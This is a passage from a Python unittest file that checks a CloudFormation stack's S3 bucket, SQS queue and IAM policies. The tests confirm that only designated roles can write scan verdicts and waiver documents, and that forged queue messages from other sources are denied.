        self.assertFalse(principal_matches({"Principal": {"AWS": "111122223333"}}, role))
        self.assertTrue(principal_matches({"Principal": {"Service": "s3.amazonaws.com"}}, "service:s3.amazonaws.com"))
        self.assertFalse(principal_matches({"Principal": {"Service": "s3.amazonaws.com"}}, "service:events.amazonaws.com"))
        self.assertFalse(principal_matches({"NotPrincipal": {"AWS": role}}, role))
        self.assertTrue(principal_matches({"NotPrincipal": {"AWS": role}}, f"arn:aws:iam::{ACCOUNT}:role/other"))
        self.assertTrue(action_matches({"Action": "s3:DeleteObject*"}, "s3:deleteobjectversion"))
        self.assertFalse(action_matches({"Action": "s3:DeleteObject*"}, "s3:PutObject"))
        self.assertTrue(action_matches({"NotAction": "s3:Get*"}, "s3:PutObject"))
        self.assertFalse(element_matches({"Resource": "arn:b/results/*"}, "Resource", "arn:b/scans/x", fnmatch.fnmatchcase))
        stack = Resolved()
        # The bucket policy's TLS statement decides before any Allow: a request without TLS is denied to anyone.
        decision, sids = stack.decide("ReportBucketPolicy", {
            "principal": PROCESSOR_ROLE, "action": "s3:GetObject", "resource": f"{REPORT_BUCKET}/results/a/b/verdict.json",
            "context": {"aws:SecureTransport": "false"}})
        self.assertEqual((decision, sids), ("Deny", ["DenyInsecureTransport"]))


class ConsumersReadCannotBeRewritten(unittest.TestCase):
    """docs/security.md: deleting a verdict version or a state object, writing a verdict, and forging a queue
    message, tried against the resolved bucket and queue policies. moto does not evaluate resource policies'
    conditions (its S3 checks bucket policies only with authentication on, without condition keys such as
    aws:PrincipalArn), so the policies are evaluated here."""

    OBJECTS = [
        f"{REPORT_BUCKET}/results/app/build-1/verdict.json",
        f"{REPORT_BUCKET}/results/by-execution/pipe/0f1e/verdict.json",
        f"{REPORT_BUCKET}/state/ecr/123456789012/us-east-1/app.json",
        f"{REPORT_BUCKET}/quarantine/scans/app/build-1/report.sarif",
    ]
    WRITES = ["s3:DeleteObjectVersion", "s3:DeleteObject", "s3:PutObject", "s3:DeleteObjectVersionTagging"]

    def request(self, principal: str, action: str, resource: str) -> dict:
        # Writes carry the stack key, as the processor's do: the policy's encryption statements stay out of it.
        return {"principal": principal, "action": action, "resource": resource,
                "context": {"aws:SecureTransport": "true", "s3:x-amz-server-side-encryption": "aws:kms",
                            "s3:x-amz-server-side-encryption-aws-kms-key-id": Resolved().arn_of("Key")}}

    def test_nobody_but_the_processor_deletes_or_writes_a_verdict_or_state_version(self) -> None:
        stack = Resolved()
        for who, principal in OTHER_PRINCIPALS.items():
            for action in self.WRITES:
                for resource in self.OBJECTS:
                    with self.subTest(who=who, action=action, resource=resource):
                        self.assertEqual(stack.decide("ReportBucketPolicy", self.request(principal, action, resource)),
                                         ("Deny", ["OnlyTheProcessorWritesResults"]))
        for action in self.WRITES:
            for resource in self.OBJECTS:
                self.assertEqual(stack.decide("ReportBucketPolicy", self.request(PROCESSOR_ROLE, action, resource)),
                                 ("Implicit", []), (action, resource))
        # Reads stay as they were: the gate and the runner read verdicts (their IAM policies grant it).
        for principal in (OTHER_PRINCIPALS["the gate"], OTHER_PRINCIPALS["the scan role"]):
            for action in ("s3:GetObject", "s3:GetObjectVersion"):
                self.assertEqual(stack.decide("ReportBucketPolicy", self.request(principal, action, self.OBJECTS[0]))[0],
                                 "Implicit")

    def test_a_named_break_glass_role_is_the_one_exception(self) -> None:
        stack = Resolved(BreakGlassRoleArn=BREAK_GLASS)
        for action in self.WRITES:
            for resource in self.OBJECTS:
                self.assertEqual(stack.decide("ReportBucketPolicy", self.request(BREAK_GLASS, action, resource)),
                                 ("Implicit", []), (action, resource))
                self.assertEqual(stack.decide("ReportBucketPolicy", self.request(PROCESSOR_ROLE, action, resource)),
                                 ("Implicit", []), (action, resource))
                for who, principal in OTHER_PRINCIPALS.items():
                    if principal != BREAK_GLASS:
                        self.assertEqual(stack.decide("ReportBucketPolicy", self.request(principal, action, resource))[0],
                                         "Deny", (who, action, resource))

    def send(self, stack: Resolved, principal: str, **context) -> tuple[str, list[str]]:
        return stack.decide("QueuePolicy", {
            "principal": principal, "action": "sqs:SendMessage", "resource": stack.arn_of("Queue"),
            "context": {"aws:SecureTransport": "true", **context}})

    def test_the_queue_takes_messages_only_from_this_stacks_bucket(self) -> None:
        s3 = "service:s3.amazonaws.com"
        for stack in (Resolved(), Resolved(BreakGlassRoleArn=BREAK_GLASS)):
            self.assertEqual(self.send(stack, s3, **{"aws:SourceArn": REPORT_BUCKET, "aws:SourceAccount": ACCOUNT}),
                             ("Allow", ["ReportBucketNotifications"]))
            forged = {
                "another bucket of the account": (s3, {"aws:SourceArn": "arn:aws:s3:::attacker-bucket",
                                                       "aws:SourceAccount": ACCOUNT}),
                "the bucket name, another account": (s3, {"aws:SourceArn": REPORT_BUCKET,
                                                          "aws:SourceAccount": "111122223333"}),
                "an EventBridge rule": ("service:events.amazonaws.com", {
                    "aws:SourceArn": f"arn:aws:events:{REGION}:{ACCOUNT}:rule/forward-s3", "aws:SourceAccount": ACCOUNT}),
                "an SNS topic": ("service:sns.amazonaws.com", {
                    "aws:SourceArn": f"arn:aws:sns:{REGION}:{ACCOUNT}:t", "aws:SourceAccount": ACCOUNT}),
            }
            for who, principal in OTHER_PRINCIPALS.items():
                if principal != BREAK_GLASS or not stack.params["BreakGlassRoleArn"]:
                    forged[who] = (principal, {})
                    # Naming the bucket as a source does not help a caller: aws:SourceArn is set by the service.
            for who, (principal, context) in forged.items():
                with self.subTest(who=who, break_glass=bool(stack.params["BreakGlassRoleArn"])):
                    decision, sids = self.send(stack, principal, **context)
                    self.assertEqual(decision, "Deny")
                    self.assertTrue({"OnlyTheReportBucketSends", "OnlyThisAccountsBucketSends"} & set(sids), sids)
        # The break-glass role redrives the DLQ (a move task sends with the caller's rights).
        self.assertEqual(self.send(Resolved(BreakGlassRoleArn=BREAK_GLASS), BREAK_GLASS), ("Implicit", []))


WAIVER_ADMIN = f"arn:aws:iam::{ACCOUNT}:role/security/waiver-admin"


def iam_allow_statements(node):
    """Every Allow statement of every IAM policy in the template (roles' inline policies, RolePolicy, ManagedPolicy),
    both branches of any Fn::If."""
    if isinstance(node, dict):
        if node.get("Effect") == "Allow" and "Action" in node:
            yield node
        for value in node.values():
            yield from iam_allow_statements(value)
    elif isinstance(node, list):
        for value in node:
            yield from iam_allow_statements(value)


class ExceptionsDocumentsAreTheSecurityTeams(unittest.TestCase):
    """docs/security.md "who can write waivers": the waivers and VEX documents under policy/ are written only by
    WaiverAdminRoleArns (and BreakGlassRoleArn), tried against the resolved bucket policy like the verdicts above."""

    DOCUMENTS = [f"{REPORT_BUCKET}/policy/waivers.yaml", f"{REPORT_BUCKET}/policy/waivers.json",
                 f"{REPORT_BUCKET}/policy/vex.json"]
    WRITES = ["s3:PutObject", "s3:DeleteObject", "s3:DeleteObjectVersion"]
    request = ConsumersReadCannotBeRewritten.request

    def test_a_waiver_uploaded_by_the_scan_role_or_anyone_else_is_refused(self) -> None:
        principals = {**OTHER_PRINCIPALS, "the processor": PROCESSOR_ROLE,
                      "a role named like the admin on another path": f"arn:aws:iam::{ACCOUNT}:role/x/waiver-admin"}
        for stack in (Resolved(), Resolved(WaiverAdminRoleArns=[WAIVER_ADMIN]),
                      Resolved(WaiverAdminRoleArns=[WAIVER_ADMIN], BreakGlassRoleArn=BREAK_GLASS)):
            named_break_glass = bool(stack.params["BreakGlassRoleArn"])
            for who, principal in principals.items():
                if principal == BREAK_GLASS and named_break_glass:
                    continue
                for action in self.WRITES:
                    for resource in self.DOCUMENTS:
                        with self.subTest(who=who, action=action, admins=stack.params["WaiverAdminRoleArns"]):
                            self.assertEqual(stack.decide("ReportBucketPolicy", self.request(principal, action, resource)),
                                             ("Deny", ["OnlyWaiverAdminsWritePolicy"]))
        self.assertEqual(TEMPLATE["Parameters"]["WaiverAdminRoleArns"]["Default"], "")

    def test_the_named_admin_roles_and_break_glass_write_the_documents(self) -> None:
        other_admin = f"arn:aws:iam::{ACCOUNT}:role/security/second-admin"
        cases = [
            (Resolved(WaiverAdminRoleArns=[WAIVER_ADMIN]), [WAIVER_ADMIN]),
            (Resolved(WaiverAdminRoleArns=[WAIVER_ADMIN, other_admin]), [WAIVER_ADMIN, other_admin]),
            (Resolved(BreakGlassRoleArn=BREAK_GLASS), [BREAK_GLASS]),
            (Resolved(WaiverAdminRoleArns=[WAIVER_ADMIN], BreakGlassRoleArn=BREAK_GLASS), [WAIVER_ADMIN, BREAK_GLASS]),
        ]
        for stack, writers in cases:
            for principal in writers:
                for action in self.WRITES:
                    for resource in self.DOCUMENTS:
                        with self.subTest(principal=principal, action=action):
                            self.assertEqual(stack.decide("ReportBucketPolicy", self.request(principal, action, resource)),
                                             ("Implicit", []))
        # Without any named writer the statement has no condition: it denies everyone.
        (st,) = [s for s in Resolved().statements("ReportBucketPolicy") if s.get("Sid") == "OnlyWaiverAdminsWritePolicy"]
        self.assertNotIn("Condition", st)
        # An admin writes only policy/: results/ and scans/ stay closed to it.
        admin = Resolved(WaiverAdminRoleArns=[WAIVER_ADMIN])
        for resource in (f"{REPORT_BUCKET}/results/app/build-1/verdict.json", f"{REPORT_BUCKET}/scans/app/b/report.sarif"):
            self.assertEqual(admin.decide("ReportBucketPolicy", self.request(WAIVER_ADMIN, "s3:PutObject", resource))[0],
                             "Deny", resource)

    def test_no_role_of_the_stack_is_granted_writes_under_policy(self) -> None:
        writes = ("s3:PutObject", "s3:DeleteObject", "s3:DeleteObjectVersion", "s3:*", "*")
        for logical, resource in RESOURCES.items():
            if not resource["Type"].startswith("AWS::IAM::"):
                continue
            for st in iam_allow_statements(resource.get("Properties", {})):
                if not any(a in writes or a.startswith("s3:DeleteObject") for a in as_list(st["Action"])):
                    continue
                text = json.dumps(st.get("Resource"))
                with self.subTest(role=logical, sid=st.get("Sid")):
                    self.assertNotIn("/policy/", text)
                    self.assertNotIn("${ReportBucket.Arn}/*", text)
                    self.assertNotIn('"*"', text.replace(" ", ""))

    def test_the_processor_reads_the_documents_and_no_other_prefix_is_read_as_one(self) -> None:
        st = role_statement("ProcessorPolicy", "ReadExceptionsDocuments")
        self.assertEqual((st["Action"], st["Resource"]),
                         (["s3:GetObject", "s3:GetObjectVersion"], {"Fn::Sub": "${ReportBucket.Arn}/policy/*"}))
        env = RESOURCES["ProcessorFunction"]["Properties"]["Environment"]["Variables"]
        self.assertEqual(env["WAIVER_MAX_DAYS"], {"Ref": "WaiverMaxDays"})


class Invariants(unittest.TestCase):
    def test_queue_visibility_is_six_times_the_function_timeout(self) -> None:
        timeout = RESOURCES["ProcessorFunction"]["Properties"]["Timeout"]
        self.assertGreaterEqual(RESOURCES["Queue"]["Properties"]["VisibilityTimeout"], 6 * timeout)

    def test_concurrency_times_rate_stays_under_security_hub_limit(self) -> None:
        concurrency = RESOURCES["ProcessorEventSource"]["Properties"]["ScalingConfig"]["MaximumConcurrency"]
        tps = TEMPLATE["Parameters"]["SecurityHubMaxTps"]["Default"]
        self.assertLessEqual(concurrency * tps, 10)
        self.assertEqual(RESOURCES["ProcessorEventSource"]["Properties"]["FunctionResponseTypes"], ["ReportBatchItemFailures"])

    def test_one_report_per_invocation_and_a_bounded_retry(self) -> None:
        # docs/scale.md "Isolation": an invocation killed for memory or time fails only its own report.
        source = RESOURCES["ProcessorEventSource"]["Properties"]
        self.assertEqual(source["BatchSize"], 1)
        self.assertNotIn("MaximumBatchingWindowInSeconds", source)
        self.assertEqual(source["FunctionResponseTypes"], ["ReportBatchItemFailures"])
        self.assertEqual(source["EventSourceArn"], {"Fn::GetAtt": ["Queue", "Arn"]})
        queue = RESOURCES["Queue"]["Properties"]
        self.assertNotIn("FifoQueue", queue, "a standard queue: nothing waits behind a failed message")
        self.assertEqual(queue["RedrivePolicy"]["deadLetterTargetArn"], {"Fn::GetAtt": ["DeadLetterQueue", "Arn"]})
        self.assertEqual(queue["RedrivePolicy"]["maxReceiveCount"], 5)
        alarm = RESOURCES["DeadLetterQueueAlarm"]["Properties"]
        self.assertEqual(alarm["Dimensions"], [{"Name": "QueueName", "Value": {"Fn::GetAtt": ["DeadLetterQueue", "QueueName"]}}])

    def test_two_notification_filters_one_per_suffix(self) -> None:
        configs = RESOURCES["ReportBucket"]["Properties"]["NotificationConfiguration"]["QueueConfigurations"]
        rules = [{r["Name"]: r["Value"] for r in c["Filter"]["S3Key"]["Rules"]} for c in configs]
        self.assertEqual(rules, [{"prefix": "scans/", "suffix": ".sarif"}, {"prefix": "scans/", "suffix": ".sarif.json"}])

    def test_lambdas_are_arm64_al2023(self) -> None:
        for function in ("ProcessorFunction", "GateFunction"):
            props = RESOURCES[function]["Properties"]
            self.assertEqual((props["Runtime"], props["Architectures"], props["Handler"]), ("provided.al2023", ["arm64"], "bootstrap"))


if __name__ == "__main__":
    result = unittest.main(exit=False, verbosity=1).result
    failed = len(result.failures) + len(result.errors)
    print(f"template contract tests: {result.testsRun - failed - len(result.skipped)} passed, {failed} failed, "
          f"{len(result.skipped)} skipped")
    sys.exit(1 if failed else 0)
